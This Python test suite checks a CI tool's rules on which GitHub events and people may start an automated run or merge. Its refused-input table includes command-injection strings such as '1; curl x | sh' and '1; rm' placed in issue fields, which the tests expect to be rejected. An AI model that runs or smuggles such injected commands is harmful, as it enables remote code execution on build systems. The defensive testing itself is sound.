"""Who starts a run in CI: a person, by a label, a comment or a dispatch; nobody else, whatever an event says."""

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coderoute.domain.ci_event import (
    Ask,
    MergeAsk,
    NotAsked,
    allowed,
    asked,
    asked_to_merge,
    issue_sha256,
    run_of_branch,
)
from coderoute.domain.forge import Access, ForgeRepository

EVENTS = Path(__file__).parents[1] / "cli" / "events"
HERE = ForgeRepository(server="https://github.com", owner="acme", name="widgets")
NAMES = {"labeled": "issues", "comment": "issue_comment", "dispatch": "workflow_dispatch"}
TITLE, BODY = "add() is wrong for negative numbers", "```python\nadd(-1, 1)  # 2\n```\nExpected 0."
Event = dict[str, Any]


def genuine(name: str) -> Event:
    """An event as GitHub sends it, without what nothing reads."""
    found = json.loads((EVENTS / f"{name}.json").read_text("utf-8"))
    if name == "labeled":
        found["label"] = {"name": "coderoute"}
    assert isinstance(found, dict)
    return found


def said(name: str, event: object, *, event_name: str | None = None, label: str = "coderoute") -> Ask | NotAsked:
    return asked(event_name or NAMES[name], json.dumps(event).encode(), repository=HERE, label=label)


@pytest.mark.parametrize("name", ["labeled", "comment"])
def test_a_person_asks_for_an_issue_as_it_was_then(name: str) -> None:
    found = said(name, genuine(name))

    assert isinstance(found, Ask)
    assert (found.issue, found.mode, found.actor) == (1, "run", "alice")
    assert found.issue_sha256 == issue_sha256(TITLE, BODY)


@pytest.mark.parametrize(
    "given",
    ["#1", "1", " #1 ", "acme/widgets#1", "ACME/Widgets#1", "https://github.com/acme/widgets/issues/1"],
)  # fmt: skip
def test_a_dispatch_names_an_issue_of_the_repository(given: str) -> None:
    event = genuine("dispatch")
    event["inputs"] = {"issue": given, "mode": "plan"}

    assert said("dispatch", event) == Ask(issue=1, mode="plan", actor="alice", how="dispatch", issue_sha256=None)


@pytest.mark.parametrize(
    ("body", "mode"),
    [("/coderoute", "run"), ("/coderoute run", "run"), ("/coderoute plan\n\nplease", "plan"),
     ("/coderoute \r\n", "run")],
)  # fmt: skip
def test_a_comment_begins_with_the_command(body: str, mode: str) -> None:
    event = genuine("comment")
    event["comment"]["body"] = body
    found = said("comment", event)
    assert isinstance(found, Ask)
    assert found.mode == mode


def set_to(value: object, *path: str) -> Callable[[Event], None]:
    def change(event: Event) -> None:
        inner: Any = event
        for part in path[:-1]:
            inner = inner[part]
        inner[path[-1]] = value

    return change


REFUSED: list[tuple[str, str, str, Callable[[Event], None]]] = [
    ("comment", "not_a_person", "a bot", set_to("Bot", "sender", "type")),
    ("comment", "not_a_person", "a name like a bot's", set_to("alice[bot]", "sender", "login")),
    ("comment", "not_a_person", "an organisation", set_to("Organization", "sender", "type")),
    ("comment", "not_a_person", "nobody", set_to(None, "sender")),
    ("comment", "not_a_person", "somebody else's comment", set_to("mallory", "comment", "user", "login")),
    ("comment", "not_a_person", "an app's comment", set_to({"id": 1}, "comment", "performed_via_github_app")),
    ("comment", "edited", "an edited comment", set_to("edited", "action")),
    ("comment", "edited", "a deleted comment", set_to("deleted", "action")),
    ("comment", "no_command", "a quoted command", set_to("> /coderoute run", "comment", "body")),
    ("comment", "no_command", "a command in the middle", set_to("Hello\n/coderoute run", "comment", "body")),
    ("comment", "no_command", "a longer word", set_to("/coderouter", "comment", "body")),
    ("comment", "no_command", "options of its own", set_to("/coderoute run --max-budget-usd 900", "comment", "body")),
    ("comment", "no_command", "no text", set_to(None, "comment", "body")),
    ("comment", "other_command", "an approval", set_to("/coderoute approve", "comment", "body")),
    ("comment", "pull_request", "a pull request", set_to({"url": "x"}, "issue", "pull_request")),
    ("comment", "closed", "a closed issue", set_to("closed", "issue", "state")),
    ("comment", "no_issue", "no number", set_to("1; rm", "issue", "number")),
    ("comment", "no_issue", "a true number", set_to(True, "issue", "number")),
    ("comment", "other_repository", "another repository", set_to("mallory/widgets", "repository", "full_name")),
    ("labeled", "other_label", "another label", set_to("bug", "label", "name")),
    ("labeled", "other_label", "a label taken off", set_to("unlabeled", "action")),
    ("labeled", "other_label", "an issue opened", set_to("opened", "action")),
    ("labeled", "not_a_person", "a bot's label", set_to("Bot", "sender", "type")),
    ("labeled", "closed", "a closed issue", set_to("closed", "issue", "state")),
    ("labeled", "pull_request", "a pull request", set_to({"url": "x"}, "issue", "pull_request")),
    ("dispatch", "no_issue", "another repository's", set_to("acme/other#1", "inputs", "issue")),
    ("dispatch", "no_issue", "another server's", set_to("https://x.test/acme/widgets/issues/1", "inputs", "issue")),
    ("dispatch", "no_issue", "an option", set_to("--base=x", "inputs", "issue")),
    ("dispatch", "no_issue", "a shell's words", set_to("1; curl x | sh", "inputs", "issue")),
    ("dispatch", "no_issue", "nothing", set_to({}, "inputs")),
    ("dispatch", "no_mode", "another mode", set_to("apply", "inputs", "mode")),
    ("dispatch", "not_a_person", "a bot", set_to("Bot", "sender", "type")),
]  # fmt: skip


@pytest.mark.parametrize(("name", "reason", "what", "change"), REFUSED, ids=[f"{n}: {w}" for n, _, w, _ in REFUSED])
def test_nothing_else_starts_a_run(name: str, reason: str, what: str, change: Callable[[Event], None]) -> None:
    event = copy.deepcopy(genuine(name))
    change(event)

    found = said(name, event)

    assert isinstance(found, NotAsked)
    assert found.reason == reason


@pytest.mark.parametrize("event_name", ["pull_request_target", "push", "schedule", "issues.opened", "", "::x::"])
def test_no_other_event_starts_a_run(event_name: str) -> None:
    found = asked(event_name, json.dumps(genuine("labeled")).encode(), repository=HERE, label="coderoute")
    assert isinstance(found, NotAsked)
    assert found.reason == "other_event"


@pytest.mark.parametrize("payload", [b"", b"[]", b"null", b"{", b"\xff\xfe", b"[" * 100_000], ids=repr)
def test_what_is_no_event_starts_nothing(payload: bytes) -> None:
    found = asked("issues", payload, repository=HERE, label="coderoute")
    assert isinstance(found, NotAsked)
    assert found.reason == "unreadable"


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.sampled_from(
        ["sender", "login", "type", "issue", "number", "comment", "body", "label", "name", "repository", "full_name"]
    ), inner, max_size=4),
    max_leaves=12,
)  # fmt: skip


@given(st.sampled_from(sorted(NAMES.values())), JSON)
def test_whatever_an_event_is_it_is_decided(name: str, event: object) -> None:
    assert isinstance(asked(name, json.dumps(event).encode(), repository=HERE, label="x"), NotAsked)


@pytest.mark.parametrize("access", list(Access))
def test_only_who_may_write_may_ask(access: Access) -> None:
    ask = Ask(issue=1, mode="run", actor="alice", how="label", issue_sha256=None)
    assert (allowed(ask.actor, access) is None) is (access in (Access.WRITE, Access.MAINTAIN, Access.ADMIN))


def spoke(name: str, event: object) -> MergeAsk | NotAsked:
    event_name = {"review": "pull_request_review", "pull_comment": "issue_comment"}.get(name, name)
    return asked_to_merge(event_name, json.dumps(event).encode(), repository=HERE)


@pytest.mark.parametrize("name", ["review", "pull_comment"])
def test_a_persons_word_on_a_pull_request_may_end_in_its_merge(name: str) -> None:
    assert spoke(name, read_event(name)) == MergeAsk(pull=4, actor="bob")


def read_event(name: str) -> Event:
    found = json.loads((EVENTS / f"{name}.json").read_text("utf-8"))
    assert isinstance(found, dict)
    return found


def put(event: Event, value: object, *path: str) -> Event:
    inner = event
    for part in path[:-1]:
        inner = inner[part]
    inner[path[-1]] = value
    return event


BOT = {"login": "x[bot]", "type": "Bot"}


@pytest.mark.parametrize(
    ("what", "name", "change", "reason"),
    [
        ("changes are asked for", "review", lambda e: put(e, "changes_requested", "review", "state"), "no_approval"),
        ("a remark", "review", lambda e: put(e, "commented", "review", "state"), "no_approval"),
        ("an approval that was dismissed", "review", lambda e: put(e, "dismissed", "action"), "no_approval"),
        ("another one's review", "review", lambda e: put(e, "ann", "review", "user", "login"), "not_a_person"),
        ("a bot's review", "review", lambda e: put(e, BOT, "sender"), "not_a_person"),
        ("no number", "review", lambda e: put(e, "4", "pull_request", "number"), "no_pull_request"),
        ("another repository", "review", lambda e: put(e, "x/y", "repository", "full_name"), "other_repository"),
        ("an edited comment", "pull_comment", lambda e: put(e, "edited", "action"), "edited"),
        ("another one's comment", "pull_comment", lambda e: put(e, "ann", "comment", "user", "login"), "not_a_person"),
        ("an app's comment", "pull_comment", lambda e: put(e, {"id": 1}, "comment", "performed_via_github_app"),
            "not_a_person"),
        ("a comment on an issue", "pull_comment", lambda e: put(e, None, "issue", "pull_request"), "no_pull_request"),
        ("small talk", "pull_comment", lambda e: put(e, "see /coderoute approve", "comment", "body"), "no_command"),
        ("a run", "pull_comment", lambda e: put(e, "/coderoute run", "comment", "body"), "no_command"),
        ("a push", "push", lambda e: e, "other_event"),
        ("nothing", "pull_comment", lambda _: [], "unreadable"),
    ],
)  # fmt: skip
def test_nothing_else_is_a_word(what: str, name: str, change: Callable[[Event], object], reason: str) -> None:
    event = change(read_event(name if name != "push" else "review"))
    found = spoke(name, event)
    assert isinstance(found, NotAsked), what
    assert found.reason == reason, what


@pytest.mark.parametrize(
    ("branch", "run"),
    [
        ("coderoute/12-0a1b2c3d", "0a1b2c3d"), ("coderoute/add-x-0a1b2c3d", "0a1b2c3d"), ("coderoute/12", None),
        ("main", None), ("x/coderoute/12-0a1b2c3d", None), ("coderoute/12-0A1B2C3D", None),
        ("coderoute/a/b-0a1b2c3d", None), ("coderoute/12-0a1b2c3d\n", None),
    ],
)  # fmt: skip
def test_a_branch_names_its_run(branch: str, run: str | None) -> None:
    assert run_of_branch(branch) == run


@given(st.binary())
def test_no_bytes_are_a_word(payload: bytes) -> None:
    assert isinstance(asked_to_merge("issue_comment", payload, repository=HERE), NotAsked)
